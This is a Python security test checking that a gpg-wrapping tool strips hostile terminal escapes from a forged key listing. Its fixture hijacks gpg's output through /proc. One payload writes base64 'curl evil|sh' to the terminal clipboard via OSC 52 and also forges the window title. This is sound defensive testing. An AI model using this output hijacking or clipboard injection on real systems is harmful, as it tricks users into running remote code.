"""A user's process that writes into the output of a gpg which runs for root as that user."""

from __future__ import annotations

import os
import subprocess
from typing import TYPE_CHECKING

import pytest

from tests.support.command import trex

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.support.sandbox import Account

TITLE, CLIPBOARD = "\x1b]0;forged title\x07", "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H"
TRU = "tru::1:1700000000:0:3:1:5\n"
PUB = "pub:u:255:22:AAAAAAAAAAAAAAAA:1700000000:::u:::scESC:::::{curve}:::0:\n"
FPR = "fpr:::::::::{fingerprint}:\n"
UID = "uid:u::::1700000000::X::root login{evil}::::::::::0:\n"
SUB = "sub:u:255:18:BBBBBBBBBBBBBBBB:1700000000::::::e:::::cv25519::\n"
SUBKEY = f"fpr:::::::::{'B' * 40}:\n"
LISTING = f"{TRU}{PUB}{FPR}{UID}{SUB}{SUBKEY}"
# Waits for gpgs of its own account that list keys, writes into their output, and ends them.
FORGER = """
import os, signal, time
end = time.monotonic() + 60
print("ready", flush=True)
seen = set()
while time.monotonic() < end:
    for number in filter(str.isdigit, os.listdir("/proc")):
        try:
            command = open(f"/proc/{number}/cmdline", "rb").read().split(b"\\0")
            if command[0] != b"/usr/bin/gpg" or b"--list-keys" not in command or number in seen:
                continue
            os.kill(int(number), signal.SIGSTOP)
            output = os.open(f"/proc/{number}/fd/1", os.O_WRONLY)
            os.write(output, b"FORGED")
            os.close(output)
            seen.add(number)
            os.kill(int(number), signal.SIGKILL)
        except OSError:
            continue
    time.sleep(0.001)
"""


@pytest.fixture
def forged(host: Account) -> Iterator[Callable[..., Account]]:
    """Have alice's processes answer with a listing of theirs; gpg itself waits at a FIFO."""
    started = []

    def begin(**changed: str) -> Account:
        [own, *_] = host.record.read_text().split()
        sound = {"curve": "ed25519", "fingerprint": own, "evil": ""}
        listing = LISTING.format(**{**sound, **changed})
        (host.gnupg / "pubring.kbx").unlink()
        os.mkfifo(host.gnupg / "pubring.kbx", 0o600)
        os.chown(host.gnupg / "pubring.kbx", host.uid, host.gid)
        program = FORGER.replace("FORGED", repr(listing)[1:-1])
        process = subprocess.Popen(
            ["/usr/bin/python3", "-c", program],
            user=host.uid, group=host.gid, extra_groups=[], cwd="/", stdout=subprocess.PIPE,
        )  # fmt: skip
        started.append(process)
        assert process.stdout
        assert process.stdout.readline() == b"ready\n"
        return host

    yield begin
    for process in started:
        process.kill()
        process.communicate()


@pytest.mark.parametrize(
    ("changed", "status"),
    [
        ({"fingerprint": TITLE + CLIPBOARD}, 1),
        ({"curve": CLIPBOARD}, 0),
        ({"evil": CLIPBOARD}, 0),
    ],
    ids=["fingerprint", "algorithm", "user id"],
)
def test_a_forged_listing_commands_no_terminal_of_root_s(
    forged: Callable[..., Account], changed: dict[str, str], status: int
) -> None:
    forged(**changed)
    done = trex("show", "--user", "alice")
    said = done.stdout + done.stderr
    assert all(c.isprintable() or c in "\n\t" for c in said), said
    assert done.returncode == status
    assert ("root login" in said) is (status == 0), "the forger was there"
    assert ("gpg's listing has an invalid fingerprint" in said) is (status == 1)
